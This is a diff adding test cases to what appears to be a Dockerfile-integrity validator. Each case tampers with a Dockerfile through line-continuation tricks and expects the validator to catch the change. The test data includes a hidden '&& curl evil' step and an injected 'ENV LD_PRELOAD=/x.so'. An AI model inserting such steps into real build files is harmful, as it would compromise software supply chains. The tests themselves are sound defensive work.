@@ -346,6 +346,31 @@ _IMAGE = [
         "-R && curl evil'",
     ),
     Hostile(
+        "continued over an empty line",
+        _changed(lambda valid: valid.replace(_DOCKERFILE, "\nENV LANG", "\nENV LANG=x \\\n\nENV LANG"), "digests"),
+        "'ENV LANG=x ENV LANG=C.UTF-8'",
+    ),
+    Hostile(
+        "step hidden behind a backslash",
+        _changed(lambda valid: valid.replace(_DOCKERFILE, "\nWORKDIR", " \\\n\n&& curl evil\nWORKDIR"), "digests"),
+        "-R && curl evil'",
+    ),
+    Hostile(
+        "two words made one",
+        _changed(lambda valid: valid.replace(_DOCKERFILE, "mkdir $BENTO_PATH", "mkdir\\\n$BENTO_PATH"), "digests"),
+        "'RUN mkdir$BENTO_PATH && chown",
+    ),
+    Hostile(
+        "backslash that does not continue",
+        _changed(lambda valid: valid.replace(_DOCKERFILE, "\nENV LANG", "\nRUN a\\\\\nENV LANG"), "digests"),
+        "'RUN a\\\\\\\\'",
+    ),
+    Hostile(
+        "more spaces",
+        _changed(lambda valid: valid.replace(_DOCKERFILE, "mkdir $BENTO_PATH", "mkdir  $BENTO_PATH"), "digests"),
+        "'RUN mkdir  $BENTO_PATH",
+    ),
+    Hostile(
         "injected ENV",
         _changed(lambda valid: valid.replace(_DOCKERFILE, "ENV LANG", "ENV LD_PRELOAD=/x.so\nENV LANG"), "digests"),
         "'ENV LD_PRELOAD=/x.so'",
